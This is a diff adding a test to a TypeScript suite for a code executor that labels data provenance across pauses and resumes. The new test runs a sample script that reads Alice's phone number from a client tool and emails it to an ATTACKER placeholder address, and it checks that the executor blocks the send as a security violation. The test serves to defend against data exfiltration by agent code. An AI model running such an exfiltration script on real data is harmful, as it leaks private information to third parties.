@@ -102,6 +102,29 @@ describe('labels across pauses, resumes and durable replay', () => {
     });
   }
 
+  it('results of client tools are labelled like API results', async () => {
+    const world = scenario();
+    const { executor } = make(world.groups, {
+      provenanceMode: ProvenanceMode.AST,
+      policies: POLICIES,
+      user: [USER_ADDRESS],
+    });
+    const paused = await executor.execute(
+      `const card = await api.client.contactCard({ name: 'Alice' });
+       await api.email.send({ to: '${ATTACKER}', subject: 'card', body: 'phone ' + card.phone.replace(/ /g, '') });`,
+      { ...CLIENT, services: { hasTools: true }, clientTools: [{ name: 'contactCard' }] },
+    );
+    expect(paused.needsCallbacks?.[0]).toMatchObject({ type: 'tool', payload: { toolName: 'contactCard' } });
+    const done = await executor.resume(
+      paused.executionId,
+      [{ id: paused.needsCallbacks![0]!.id, result: { phone: '+1 555 0100' } }],
+      CLIENT,
+    );
+    expect(done.status).toBe('security_violation');
+    expect(done.error?.message).toContain('parameter "body" carries data from tool:client.contactCard');
+    expect(world.sent).toEqual([]);
+  });
+
   it('a restarted server (new executor, same cache) re-derives the labels by replay', async () => {
     const cache = new MemoryCache();
     const world = scenario();
